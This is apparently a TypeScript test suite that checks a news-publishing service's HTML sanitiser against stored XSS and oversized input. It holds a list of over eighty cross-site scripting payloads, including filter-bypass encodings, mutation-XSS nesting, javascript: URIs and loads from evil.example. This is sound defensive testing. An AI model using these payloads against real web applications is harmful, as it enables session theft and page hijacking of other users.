// Only with row-level security: it is about what a text may hold; news.test.ts runs the statements.
import { news } from '@edp/contract/news';
import sharp from 'sharp';
import { beforeAll, expect, test } from 'vitest';
import { useTestApp } from '../../testing/test-app.ts';
import type { TestTenant } from '../../testing/test-tenant.ts';
import { uploadAs } from '@edp/testkit/uploads';

const product = useTestApp();
let tenant: TestTenant;

beforeAll(async () => {
  tenant = await product.newTenant();
});

const hostile = [
  '<script>window.__xss=1</script>',
  '<ScRiPt SrC="//evil.example/x.js"></sCrIpT>',
  '<script\u0001>window.__xss=1</script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<img src=x onerror=window.__xss=1>',
  '<img src="x" OnErRoR="window.__xss=1">',
  '<img src=x\u000conerror=window.__xss=1>',
  '<img/src=x/onerror=window.__xss=1>',
  '<img src="x` `<script>window.__xss=1</script>"` `>',
  '<img srcset="x 1x, javascript:window.__xss=1 2x">',
  '<img src="javascript:window.__xss=1">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">',
  '<img src="data:text/html,<script>window.__xss=1</script>">',
  '<img src="http://evil.example/track.png">',
  '<img src="/user/v6/logout">',
  '<img src="/file/v6/view/1/../../../../user/v6/logout">',
  '<picture><source srcset="https://evil.example/a"><img src=x></picture>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt:window.__xss=1">x</a>',
  '<a href=" &#14; javascript:window.__xss=1">x</a>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<a href="java\nscript:window.__xss=1">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">x</a>',
  '<a href="javascript&colon;window.__xss=1">x</a>',
  '<a href="\u0001javascript:window.__xss=1">x</a>',
  '<a href="\u3000javascript:window.__xss=1">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/user/v6/logout" ping="https://evil.example" download>x</a>',
  '<a href="https://a.example" target="_top" rel="opener" onclick="window.__xss=1">x</a>',
  '<svg onload=window.__xss=1></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=window.__xss=1></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
  '<math><mi//xlink:href="data:x,<script>window.__xss=1</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<template><img src=x onerror=window.__xss=1></template>',
  '<textarea><img src=x onerror=window.__xss=1></textarea>',
  '<title><img src=x onerror=window.__xss=1></title>',
  '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>"></xmp>',
  '<plaintext><img src=x onerror=window.__xss=1>',
  '<noembed><img title="</noembed><img src onerror=window.__xss=1>"></noembed>',
  '<select><style></select><img src=x onerror=window.__xss=1></style>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<frameset onload=window.__xss=1><frame src="javascript:window.__xss=1"></frameset>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="data:text/html,<script>window.__xss=1</script>">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); * { color: red }</style>',
  '<style></style><img src=x onerror=window.__xss=1>',
  '<p style="background:url(javascript:window.__xss=1)">x</p>',
  '<p style="width:expression(window.__xss=1);color:red">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background-image:url(https://evil.example/p)">x</p>',
  '<p style="color:red;/*" onmouseover="window.__xss=1" */">x</p>',
  '<p style="color: red\\;background:url(https://evil.example)">x</p>',
  '<div class="edp-toast" id="root" data-theme="dark" onfocus=window.__xss=1 tabindex=0 autofocus>x</div>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:window.__xss=1">x</button></form>',
  '<video><source onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1></audio>',
  '<details open ontoggle=window.__xss=1><summary>x</summary></details>',
  '<dialog open onclose=window.__xss=1>x</dialog><marquee onstart=window.__xss=1>x</marquee>',
  '<body onload=window.__xss=1><input onfocus=window.__xss=1 autofocus>',
  '<table background="javascript:window.__xss=1"><tr><td background="x" onclick=window.__xss=1>x</table>',
  '<!--><img src=x onerror=window.__xss=1>-->',
  '<!-- --!><img src=x onerror=window.__xss=1> -->',
  '<![CDATA[<img src=x onerror=window.__xss=1>]]>',
  '<?xml version="1.0"?><?php <img src=x onerror=window.__xss=1> ?>',
  '<p title="&quot; onmouseover=&quot;window.__xss=1">x</p>',
  '<img alt="&quot;&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;" src="https://a.example/b.png">',
  '<a title="&quot; onclick=&quot;window.__xss=1" href="https://a.example/?a=&quot;onclick=1">x</a>',
  '<script>window.__xss=1</script>＜img src=x onerror=window.__xss=1＞\u202e\ufeff',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<x-frame onclick=window.__xss=1><p is="x-evil" slot="x" part="y" nonce="z">x</p></x-frame>',
  `${'<div>'.repeat(90)}<table><svg><style><img src=x onerror=window.__xss=1>`,
  '<p>open <img src="x" onerror="window.__xss=1"',
];

/** Written down here once more: a name that slips into the list of the code must be noticed. */
const tags = new Set(
  `h1 h2 h3 h4 h5 h6 p div blockquote pre hr br span strong b em i u s del ins sub sup small mark code ul ol li dl dt dd
   figure figcaption a img table caption colgroup col thead tbody tfoot tr th td`.split(/\s+/),
);
const attributesOf: Record<string, string[]> = {
  a: ['href', 'title', 'target', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  ol: ['start'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};
const CANONICAL_TAG = /^<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)\s*\/?>/;

/** Reads HTML that leaves: every `<` begins a plainly written tag of the list, with attributes of the list alone. */
function offences(html: string): string[] {
  return html
    .split(/(?=<)/)
    .filter((piece) => piece.startsWith('<'))
    .flatMap((piece) => {
      const [, , tag = '', attributes = ''] = CANONICAL_TAG.exec(piece) ?? [];
      if (!tags.has(tag)) return [piece];
      const allowed = ['style', ...(attributesOf[tag] ?? [])];
      return [...attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)]
        .filter(([, name = '', value = '']) => !allowed.includes(name) || !isHarmless(name, value))
        .map(([attribute]) => `${tag}${attribute}`);
    });
}

const isHarmless = (name: string, value: string) => {
  if (name === 'href') return /^(https?:\/\/|mailto:)/.test(value);
  if (name === 'src')
    return /^(data:image\/(png|jpeg);base64,[\w+/]+=*$|\/file\/v6\/view\/\d+\?t=)/.test(value);
  if (name === 'target') return value === '_blank';
  if (name === 'rel') return value === 'noopener noreferrer';
  if (name === 'style')
    return /^([a-z-]+:[\w#%.,() -]+;?)+$/.test(value) && !/url|expression|position/i.test(value);
  return true;
};

test('the reader of this file finds what it must', () => {
  expect(hostile.length).toBeGreaterThan(60);
  for (const [html, count] of [
    ['<p>a</p><br />', 0],
    ['<p onclick="x">a</p>', 1],
    ['<script>x</script>', 2],
    ['<a href="javascript:1">', 1],
    ['<img src=x onerror=1>', 1],
    ['<p style="background:url(x)">', 1],
  ] as const)
    expect(offences(html), html).toHaveLength(count);
});

test.each(hostile)('%s', async (html) => {
  const content = `<p>前</p>${html}`;
  const form = { title: '测试', typeName: '测试', content };
  const { data } = await tenant.admin.call(news.publish, form);
  expect(offences(data.content)).toEqual([]);
  const read = await tenant.admin.call(news.content, { newsIds: [data.id] });
  expect(read.data[0]?.content).toBe(data.content);
});

test('what came into the database by another way is made safe when it leaves', async () => {
  const values = hostile.map((content) => ({
    tenant_id: tenant.id,
    title: '外来',
    type: '测试',
    content,
  }));
  const added = await product.database.inTenantTransaction(tenant.id, (db) =>
    db.insertInto('news').values(values).returning('id').execute(),
  );
  const ids = added.map(({ id }) => id);
  for (const newsIds of [ids.slice(0, 50), ids.slice(50)]) {
    const { data } = await tenant.admin.call(news.content, { newsIds });
    expect(data).toHaveLength(newsIds.length);
    expect(data.flatMap(({ content }) => offences(content))).toEqual([]);
  }
});

test('what an editor makes stays as it is', async () => {
  const pixel = 'data:image/png;base64,iVBORw0KGgo=';
  const kept = [
    '<h2 style="text-align:center">标题</h2>',
    '<p style="color:#c00;font-weight:bold">红色 <strong>粗</strong><em>斜</em><u>线</u></p>',
    '<ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引</blockquote>',
    '<table><thead><tr><th colspan="2">头</th></tr></thead><tbody><tr><td rowspan="2">格</td></tr></tbody></table>',
    '<a href="https://a.example/b?c=1&amp;d=2" target="_blank" rel="noopener noreferrer">链接</a>',
    '<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer">邮件</a>',
    `<img src="${pixel}" width="20" height="10" alt="图" />`,
    '1 &lt; 2 &amp;&amp; 3 &gt; 2',
  ].join('');
  const form = { title: '测试', typeName: '测试', content: kept };
  const { data } = await tenant.admin.call(news.publish, form);
  expect(data.content).toBe(kept);
});

test('pictures of others go, and what stands beside them stays', async () => {
  const foreign = ['https://a.example/b.png', '//a.example/b.png', 'HTTPS://a.example/b.png'];
  const content = foreign.map((src) => `<p>图<img src="${src}" /></p>`).join('');
  const { data } = await tenant.admin.call(news.publish, {
    title: '测试',
    typeName: '测试',
    content,
  });
  expect(data.content).toBe('<p>图</p>'.repeat(3));
});

test.each([
  ['nested thirty thousand times', '<b><i>'.repeat(30_000)],
  ['nested behind ends of nothing', '<b></i>'.repeat(4_000)],
  ['of too many paragraphs', '<p>段</p>'.repeat(20_000)],
  ['of nothing but signs', '&'.repeat(30_000)],
  ['with a style without end', `<p style="${'a:b;'.repeat(40_000)}">段</p>`],
])('a text %s is refused by its field, before anybody waits for it', async (_name, content) => {
  const form = { title: '测试', typeName: '测试', content };
  const message = '内容的格式过于复杂，请简化后再提交';
  expect(await tenant.admin.call(news.publish, form)).toMatchObject({
    http: 400,
    code: 4000,
    errors: [{ path: 'content', message }],
  });
});

test('a table of three hundred rows is not too complex', async () => {
  const row = `<tr>${'<td><p>汉字</p></td>'.repeat(6)}</tr>`;
  const content = `<table><tbody>${row.repeat(300)}</tbody></table>`;
  const { code, data } = await tenant.admin.call(news.publish, {
    title: '测试',
    typeName: '测试',
    content,
  });
  expect(code).toBe(0);
  expect(data.content).toBe(content);
});

test('the text of our own editor survives being saved, read and saved again', async () => {
  const png = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#2456e6' } })
    .png()
    .toBuffer();
  const { data: file } = await uploadAs(tenant.admin, png, { purpose: 'rich-text' });
  const picture = (src: string) => `<img src="${src}" alt="图.png"`;
  const written = [
    '<h2>标题</h2><p style="text-align: center;">普通 <strong>粗</strong><em>斜</em><u>线</u><s>删</s></p>',
    '<ol start="3"><li><p>三</p></li></ol><blockquote><p>引</p></blockquote>',
    '<p><a target="_blank" rel="noopener noreferrer" href="https://a.example/">链接</a></p>',
    '<table style="min-width: 50px;"><colgroup><col style="min-width: 25px;"><col></colgroup>',
    '<tbody><tr><th colspan="2" rowspan="1"><p style="text-align: right;">头</p></th></tr></tbody></table>',
    `<p>${picture(file.url.replaceAll('&', '&amp;'))}><br></p>`,
  ].join('');
  const form = { title: '测试', typeName: '测试' };
  const { data: once } = await tenant.admin.call(news.publish, { ...form, content: written });
  for (const kept of [
    '<h2>标题</h2><p style="text-align:center">普通 <strong>粗</strong><em>斜</em><u>线</u><s>删</s></p>',
    '<ol start="3"><li><p>三</p></li></ol><blockquote><p>引</p></blockquote>',
    '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">链接</a>',
    '<table><colgroup><col /><col /></colgroup><tbody><tr><th colspan="2" rowspan="1">',
    '<p style="text-align:right">头</p></th></tr></tbody></table>',
    picture(`${file.filePath}?t=${tenant.id}&amp;`).replace(/" alt.*/, ''),
  ])
    expect(once.content).toContain(kept);
  const { data: twice } = await tenant.admin.call(news.publish, { ...form, content: once.content });
  const unsigned = (html: string) => html.replaceAll(/\?t=[^"]*/g, '');
  expect(unsigned(twice.content)).toBe(unsigned(once.content));
});
